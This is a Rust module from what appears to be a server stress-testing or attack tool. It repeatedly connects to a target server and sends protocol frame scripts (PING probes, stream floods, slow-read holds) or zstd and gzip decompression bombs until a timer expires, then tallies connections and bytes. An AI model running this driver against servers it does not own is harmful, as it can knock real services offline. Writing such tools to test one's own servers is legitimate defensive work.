//! One kind of attack over one connection, again and again.

use std::time::Duration;

use tokio::{
    io::{AsyncWriteExt as _, sink},
    net::TcpStream,
    time::{Instant, sleep, timeout_at},
};

use crate::{
    Common,
    bomb::Bomb,
    bytes::Out,
    kinds::{Kind, Script, Then},
};

/// Before the next connection: whoever is turned away comes back, but not in a busy loop that would only
/// measure the machine.
const PAUSE: Duration = Duration::from_millis(20);

/// What has been done.
#[derive(Default)]
pub struct Tally {
    pub connections: u64,
    pub sent_bytes: u64,
    pub calls: u64,
}

/// What it is laid with.
enum Arms {
    Frames(Script),
    Messages(Bomb),
}

/// Goes on until its time is up.
pub async fn lay(kind: Kind, common: Common) -> Result<String, String> {
    let arms = match (kind.script(), kind) {
        (Some(script), _) => Arms::Frames(script),
        (None, Kind::ZstdBomb) => Arms::Messages(Bomb::zstd().await),
        (None, _) => Arms::Messages(Bomb::gzip().await),
    };
    let end = Instant::now() + common.lasts();
    let mut tally = Tally::default();
    while Instant::now() < end {
        let assault = assault(&arms, common, &mut tally);
        match timeout_at(end, assault).await {
            // Its time is up, in the middle of it.
            Err(_) => break,
            Ok(Err(error)) if tally.connections == 0 => return Err(error),
            Ok(_) => {}
        }
        sleep(PAUSE).await;
    }
    Ok(format!(
        r#"{{"connections":{},"sent_bytes":{},"calls":{}}}"#,
        tally.connections, tally.sent_bytes, tally.calls
    ))
}

/// One connection, until the server ends it.
async fn assault(arms: &Arms, common: Common, tally: &mut Tally) -> Result<(), String> {
    match arms {
        Arms::Frames(script) => raw(script, common, tally).await,
        Arms::Messages(bomb) => bomb.lay(common, tally).await,
    }
}

async fn raw(script: &Script, common: Common, tally: &mut Tally) -> Result<(), String> {
    let tcp = TcpStream::connect(common.server)
        .await
        .map_err(|error| error.to_string())?;
    tally.connections += 1;
    let (mut from, mut to) = tcp.into_split();
    let reads = script.reads;
    let read = async move {
        if reads {
            let _ = tokio::io::copy(&mut from, &mut sink()).await;
        } else {
            // Kept, and never read; whoever does not read is found out by the write side.
            let mut byte = [0];
            let _ = from.peek(&mut byte).await;
            std::future::pending::<()>().await;
        }
    };
    let write = async {
        if send(&mut to, &script.hello, tally).await.is_err() {
            return;
        }
        // The protocol's first window is too small for most of this.
        sleep(PAUSE).await;
        if send(&mut to, &script.opening, tally).await.is_err() {
            return;
        }
        let mut stream = 1;
        loop {
            let sent = match &script.then {
                Then::Hold if script.reads => std::future::pending().await,
                Then::Hold => {
                    // A byte now and then of a PING, to learn of the end.
                    sleep(Duration::from_millis(500)).await;
                    let mut ping = Out::default();
                    ping.frame(crate::bytes::PING, 0, 0, &[0; 8]);
                    send(&mut to, &ping.0, tally).await
                }
                Then::Again(bytes) => send(&mut to, bytes, tally).await,
                Then::Streams(each) => {
                    let mut out = Out::default();
                    while out.0.len() < 32_768 {
                        each(&mut out, stream);
                        stream += 2;
                    }
                    send(&mut to, &out.0, tally).await
                }
            };
            if sent.is_err() {
                return;
            }
        }
    };
    tokio::select! {
        () = read => {}
        () = write => {}
    }
    Ok(())
}

async fn send(
    to: &mut tokio::net::tcp::OwnedWriteHalf,
    bytes: &[u8],
    tally: &mut Tally,
) -> std::io::Result<()> {
    to.write_all(bytes).await?;
    tally.sent_bytes += u64::try_from(bytes.len()).unwrap_or_default();
    Ok(())
}
